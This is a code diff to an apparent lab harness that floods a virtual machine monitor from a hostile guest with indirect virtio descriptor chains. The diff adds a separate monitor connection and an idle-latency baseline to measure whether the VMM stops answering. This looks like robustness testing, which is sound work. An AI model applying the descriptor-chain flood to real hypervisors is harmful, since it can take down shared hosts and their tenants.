@@ -29,6 +29,7 @@ class MonitorProbe:
     latencies_ms: list[float] = field(default_factory=list)
     failures: list[str] = field(default_factory=list)
     _stop: threading.Event = field(default_factory=threading.Event)
+    _started: threading.Event = field(default_factory=threading.Event)
     _thread: threading.Thread | None = None
 
     def start(self) -> "MonitorProbe":
@@ -37,17 +38,33 @@ class MonitorProbe:
         return self
 
     def _run(self) -> None:
-        while not self._stop.is_set():
-            t0 = time.perf_counter()
-            try:
-                self.vm.qmp.execute("query-balloon", timeout=600)
-            except Exception as e:       # the VMM died or stopped answering: the attack worked
-                self.failures.append(f"{type(e).__name__}: {e}")
-                return
-            self.latencies_ms.append((time.perf_counter() - t0) * 1e3)
-            time.sleep(0.005)
+        from lab.monitor_client import MonitorError, QMPClient
+        try:
+            qmp = QMPClient(self.vm.monitor, timeout=600)   # its own connection: the test uses vm.qmp
+        except (OSError, MonitorError) as e:
+            self.failures.append(f"cannot connect to the monitor: {e}")
+            self._started.set()
+            return
+        try:
+            while not self._stop.is_set():
+                t0 = time.perf_counter()
+                try:
+                    qmp.execute("query-balloon")
+                except MonitorError as e:
+                    if not str(e).startswith("query-balloon:"):   # no answer at all: the attack worked
+                        self.failures.append(str(e))
+                        self._started.set()
+                        return
+                    # an error answer (DeviceNotActive while the device needs a reset) is an answer
+                self.latencies_ms.append((time.perf_counter() - t0) * 1e3)
+                self._started.set()
+                time.sleep(0.005)
+        finally:
+            qmp.close()
 
     def stop(self) -> dict:
+        """Stop probing (after at least one answer, or 60 s without any) and summarize."""
+        self._started.wait(60)
         self._stop.set()
         if self._thread is not None:
             self._thread.join(timeout=620)
@@ -81,6 +98,9 @@ def chain_attack(vm: HostileVM, ring_size: int = 32768, table_len: int = MAX_TAB
     g.write(TABLE_GPA, bytes(table))
     for i in range(ring_size):
         q.ring.desc(i, TABLE_GPA, 16 * table_len, F_INDIRECT)
+    idle = MonitorProbe(vm).start()      # the same probe with no attack, under the same machine load
+    time.sleep(2.0)
+    idle_lat = idle.stop()
     probe = MonitorProbe(vm).start()
     time.sleep(0.05)
     t0 = time.perf_counter()
@@ -92,4 +112,4 @@ def chain_attack(vm: HostileVM, ring_size: int = 32768, table_len: int = MAX_TAB
     lat = probe.stop()
     return {"attack": "chain", "ring_size": ring_size, "table_len": table_len, "all_used": done,
             "seconds_to_use_all": round(took, 2), "chains_per_s": round(ring_size / took, 1),
-            "monitor": lat, "vmm_alive": vm.alive()}
+            "monitor": lat, "monitor_without_attack": idle_lat, "vmm_alive": vm.alive()}
